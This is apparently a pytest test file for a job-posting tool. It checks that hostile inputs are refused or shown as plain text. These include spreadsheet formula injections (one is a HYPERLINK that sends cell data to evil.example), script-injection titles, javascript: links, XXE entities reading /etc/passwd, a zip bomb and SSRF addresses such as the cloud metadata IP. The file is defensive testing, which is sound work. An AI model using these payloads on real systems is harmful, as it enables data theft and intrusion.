"""Openings that hurt, through the real command: refused with their place, or mere text."""

import csv
import io
import json
import re
import zipfile
from xml.etree import ElementTree as ET

import lxml.html
import pytest
from lxml import etree
from openpyxl import Workbook

from conftest import Project, Run
from postingkit.boards import board_names, load_profile

SETTINGS = """\
organization: {name: Us & Co, url: "https://example.org"}
site: {url: "https://example.org/jobs"}
"""
OPENING = "role: clerk\nlocations: [{city: Berlin, country: DE}]\nposted: 2026-11-01\n"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)
TEXTS = (
    "]]>",
    "]]]]><![CDATA[>",
    "&amp; &lt;b&gt; &#0; &nope;",
    "</description></job></source><!--",
    "<!DOCTYPE a [<!ENTITY b 'c'>]>",
    "<?xml version='1.0'?>",
    "</script><script>alert(1)</script>",
    "مهندس بيانات · データ · Инженер · 𝒟ata 👩‍💻",
    "=1+1",
)
TITLE = "Clerk</script><script>alert(1)</script> & <b>Co</b> ]]> &amp;"
XML = tuple(
    name
    for name in board_names()
    if (feed := load_profile(name).feed) is not None and feed.form == "xml"
)


@pytest.fixture
def vacant(project: Project) -> Project:
    """Give a project with a role and a sound opening of it."""
    project.write(
        {
            "postingkit.yaml": SETTINGS,
            "roles/clerk.yaml": "title: Clerk\nsummary: Files.",
            "openings/sound.yaml": OPENING,
        }
    )
    return project


def quoted_text(text: str) -> str:
    """Write *text* between quotes, as YAML reads it."""
    return json.dumps(text, ensure_ascii=False)


def text_of(element: etree._Element) -> str:
    return "".join(map(str, element.itertext()))


def links(page: etree._Element) -> list[str]:
    """Give every address that the page leads to or loads from."""
    leading = ("href", "src", "action", "data")
    return [str(each.get(name)) for each in page.iter() for name in leading if each.get(name)]


def table(*rows: dict[str, str]) -> bytes:
    written = io.StringIO()
    writer = csv.DictWriter(written, list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return written.getvalue().encode()


def workbook(*rows: tuple[str, ...]) -> bytes:
    book, written = Workbook(), io.BytesIO()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    book.save(written)
    return written.getvalue()


def refused(project: Project, *told: str) -> Run:
    """Check the project and expect each thing *told*, in the words of people and of programs."""
    run = project.run("check", "--as-of", "2026-11-15")
    assert run.code == 1
    assert [words for words in told if words not in run.err] == []
    assert json.loads(project.run("check", "--as-of", "2026-11-15", "--json").out)["problems"]
    return run


# Tables


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_csv_cell_is_the_text_that_it_is(vacant: Project, formula: str) -> None:
    row = {"id": "hostile", "role": "clerk", "location.country": "DE", "hours": formula}
    vacant.write({"openings/all.csv": table(row)})
    assert vacant.run("export", "hostile", "-f", "html").code == 0
    page = lxml.html.fromstring(vacant.text("out/openings/hostile.html"))
    assert formula.strip() in text_of(page)
    assert [link for link in links(page) if "evil" in link] == []


def test_a_formula_where_something_else_belongs_is_told_with_row_and_column(
    vacant: Project,
) -> None:
    row = {"id": "hostile", "role": "clerk", "pay.min": FORMULAS[1], "apply.url": FORMULAS[0]}
    vacant.write({"openings/all.csv": table(row)})
    refused(
        vacant,
        "openings/all.csv, row 2, column pay.min: error:",
        "openings/all.csv, row 2, column apply.url: error:",
    )


def test_an_excel_file_that_would_unpack_to_very_much_is_refused(vacant: Project) -> None:
    packed = io.BytesIO(workbook(("id", "role"), ("a", "clerk")))
    with zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("xl/media/bomb.bin", b"\0" * 300_000_000)
    vacant.write({"openings/bomb.xlsx": packed.getvalue()})
    refused(vacant, "openings/bomb.xlsx", "grows too large when it is unpacked")


@pytest.mark.parametrize(
    "entity",
    [
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a SYSTEM "http://192.168.0.1/a.dtd">',
    ],
)
def test_entities_in_an_excel_file_are_refused_and_not_followed(
    vacant: Project, entity: str
) -> None:
    sound = zipfile.ZipFile(io.BytesIO(workbook(("id", "role"), ("a", "clerk"))))
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as package:
        for name in sound.namelist():
            text = sound.read(name).decode()
            is_sheet = name.endswith("sheet1.xml")
            package.writestr(name, text.replace("<worksheet", f"{entity}<worksheet", is_sheet))
    vacant.write({"openings/entities.xlsx": packed.getvalue()})
    run = refused(vacant, "openings/entities.xlsx", "has a document type")
    assert "root:" not in run.err


# Addresses


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html,x",
     "vbscript:x", "file:///etc/passwd", "//evil.example/x", "https://user@evil.example\\x"],
)  # fmt: skip
def test_what_is_no_way_to_apply_is_refused_at_its_line(vacant: Project, address: str) -> None:
    written = json.dumps(address)
    vacant.write({"openings/hostile.yaml": f"{OPENING}apply: {{url: {written}}}\n"})
    refused(vacant, "openings/hostile.yaml:4:14: error:", "in: apply.url")
    row = {"id": "table", "role": "clerk", "apply.url": address}
    vacant.write({"openings/all.csv": table(row)})
    refused(vacant, "openings/all.csv, row 2, column apply.url: error:")


@pytest.mark.parametrize(
    "address",
    [
        "http://192.168.0.1/logo.png",
        "http://localhost/logo.png",
        "http://127.0.0.1:8080/logo.png",
        "http://[::1]/logo.png",
        "http://169.254.169.254/latest",
        "http://2130706433/logo.png",
        "file:///etc/passwd",
        "javascript:alert(1)",
    ],
)
def test_a_logo_at_a_private_address_is_refused_at_its_line(vacant: Project, address: str) -> None:
    vacant.write({"postingkit.yaml": f'organization:\n  name: Us\n  logo_url: "{address}"\n'})
    refused(vacant, "postingkit.yaml:3:13: error:", "in: organization.logo_url")


@pytest.mark.parametrize("field", ["instructions", "hours", "duration"])
def test_a_link_that_would_run_something_is_none_on_the_page(vacant: Project, field: str) -> None:
    text = "Go [here](javascript:alert(1)) or <javascript:alert(2)>"
    line = f"apply: {{instructions: '{text}'}}" if field == "instructions" else f"{field}: '{text}'"
    vacant.write({"openings/hostile.yaml": f"{OPENING}{line}\n"})
    run = vacant.run("export", "hostile", "-f", "html")
    if run.code:
        assert "openings/hostile.yaml:4:" in run.err
        return
    page = lxml.html.fromstring(vacant.text("out/openings/hostile.html"))
    assert [link for link in links(page) if "script:" in link.lower()] == []


# Titles and texts


def test_a_title_that_would_end_a_script_is_a_title(vacant: Project) -> None:
    vacant.write({"roles/clerk.yaml": f"title: {quoted_text(TITLE)}\nsummary: Files."})
    assert vacant.run("export", "sound", "-f", "html").code == 0
    page = lxml.html.fromstring(vacant.text("out/openings/sound.html"))
    (script,) = page.iter("script")
    assert script.get("type") == "application/ld+json"
    assert json.loads(text_of(script))["title"] == TITLE
    assert text_of(next(page.iter("h1"))).strip() == TITLE


@pytest.mark.parametrize("board", XML)
@pytest.mark.parametrize("text", [*TEXTS, TITLE], ids=ascii)
def test_any_text_in_any_field_of_a_feed_is_read_as_it_was_written(
    vacant: Project, board: str, text: str
) -> None:
    quoted = quoted_text(text)
    places = f"locations: [{{city: {quoted}, street: {quoted}, country: DE}}]"
    vacant.write(
        {
            "postingkit.yaml": SETTINGS.replace("Us & Co", quoted),
            "roles/clerk.yaml": f"title: {quoted}\nsummary: Files.",
            "openings/sound.yaml": f"role: clerk\n{places}\nrequisition: {quoted}\n",
        }
    )
    run = vacant.run("feed", board)
    assert run.code == 0, run.err
    strict = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    found = {str(each.tag): each.text for each in etree.fromstring(run.data, strict).iter()}
    again = {each.tag: each.text for each in ET.fromstring(run.data).iter()}  # noqa: S314 - expat, as others read it
    assert found == again
    title = next(found[name] for name in ("title", "name", "job_title") if name in found)
    assert title == text


@pytest.mark.parametrize("board", ["lever", "greenhouse"])
@pytest.mark.parametrize("text", [*TEXTS, TITLE], ids=ascii)
def test_any_text_in_a_json_feed_is_read_as_it_was_written(
    vacant: Project, board: str, text: str
) -> None:
    vacant.write({"roles/clerk.yaml": f"title: {quoted_text(text)}\nsummary: Files."})
    read = json.loads(vacant.run("feed", board).data)
    (entry,) = read if isinstance(read, list) else read["jobs"]
    assert entry.get("text", entry.get("title")) == text


@pytest.mark.parametrize("code", ["0007", "0000", "001B", "FFFE", "D800"])
def test_a_character_that_no_file_holds_is_refused_at_its_line(vacant: Project, code: str) -> None:
    vacant.write({"openings/hostile.yaml": f'{OPENING}hours: "a\\u{code}b"\n'})
    refused(vacant, "openings/hostile.yaml:4:")


def test_a_control_character_in_a_table_is_refused_at_its_cell(vacant: Project) -> None:
    vacant.write({"openings/all.csv": b"id,role,hours\na,clerk,1\x07\n"})
    run = refused(vacant, "openings/all.csv")
    assert re.search(r"row 2, column hours: error: ", run.err)
